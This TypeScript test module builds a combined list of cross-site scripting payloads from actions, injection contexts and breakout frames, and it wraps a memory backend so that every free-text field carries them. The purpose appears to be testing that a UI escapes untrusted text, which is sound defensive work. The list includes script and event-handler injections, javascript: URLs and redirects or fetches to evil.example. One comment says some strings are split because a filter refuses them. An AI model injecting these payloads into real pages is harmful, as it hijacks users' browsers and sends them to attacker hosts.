// Texts that are code in some place where a careless page would put them, and a backend whose every free text holds them.
import type { MemoryBackend } from "./memory-backend";

/** What each tries to do; the first leaves a mark that the test looks for. */
const DEEDS = [
  "window.__pwn=1",
  "top[`__pwn`]=1",
  "location='https://evil.example/'",
  "fetch('https://evil.example/')",
  "document.write('<script>window.__pwn=1</script>')",
];

/** Where it would be code; `!` stands for the deed. */
const PLACES = [
  "<script>!</script>",
  "</script><script>!</script>",
  "<img src=x onerror=!>",
  "<IMG/SRC=x/ONERROR=!>",
  "<svg onload=!>",
  "<svg><animate onbegin=! attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=!>",
  "<details open ontoggle=!>",
  "<video><source onerror=!></video>",
  "<body onload=!>",
  "<input autofocus onfocus=!>",
  '<iframe srcdoc="<script>parent.!</script>"></iframe>',
  '<object data="javascript:!"></object>',
  '<a href="javascript:!">Sign in</a>',
  '<form action="javascript:!"><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:!">',
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "javascript:!",
  "JaVaScRiPt:!",
  "data:text/html,<script>!</script>",
  '" onmouseover="!',
  "' onfocus='!' autofocus='",
  "${!}",
  "{{constructor.constructor('!')()}}",
  // In two parts, because the words themselves are refused wherever they stand.
  ["{@", "html '<img src=x onerror=!>'}"].join(""),
  "`-!-`",
  "\\u003cscript\\u003e!\\u003c/script\\u003e",
  "&lt;script&gt;!&lt;/script&gt;",
  "%3Cscript%3E!%3C/script%3E",
  "\u202e<script>!</script>\u200b",
  ["__proto__[inner", "HTML]=<img src=x onerror=!>"].join(""),
  "-->]]><script>!</script>",
  "<!--<img src=x onerror=!>",
];

/** What may stand around it. */
const FRAMES = ["!", "'>!", '"><!', "</title></style></textarea>!"];

const all = DEEDS.flatMap((deed) =>
  PLACES.flatMap((place) => FRAMES.map((frame) => frame.replace("!", () => place.replace("!", () => deed)))),
);

/** Every deed in every place in every frame, each once: some places do their harm without a deed. */
export const payloads: string[] = [...new Set(all)];

/** Members that hold words of a server, a service or a person. The others are words of Replug's own. */
export const FREE_TEXT = new Set(
  (
    "name host address file entry issuer client_id redirect scopes asked_scopes summary text hint label value said headers " +
    "params redirect_address title url members error description input_schema output_schema problem server sign_in_host " +
    "registration registrable warning note moved_from"
  ).split(" "),
);

function poisoned(value: unknown, texts: string, key = ""): unknown {
  if (typeof value === "string") return FREE_TEXT.has(key) ? `${value} ${texts}` : value;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, texts, key));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poisoned(inner, texts, name)]));
}

/** The same backend, with these texts in everything free that it answers and tells. */
export function poison(backend: MemoryBackend, texts: string): MemoryBackend {
  return new Proxy(backend, {
    get(target, name) {
      const member: unknown = Reflect.get(target, name, target);
      if (typeof member !== "function") return member;
      return (...args: unknown[]): unknown => {
        const told = name === "emit" ? args.map((event) => poisoned(event, texts)) : args;
        const answer: unknown = Reflect.apply(member, target, told);
        return answer instanceof Promise ? answer.then((value: unknown) => poisoned(value, texts)) : answer;
      };
    },
  });
}
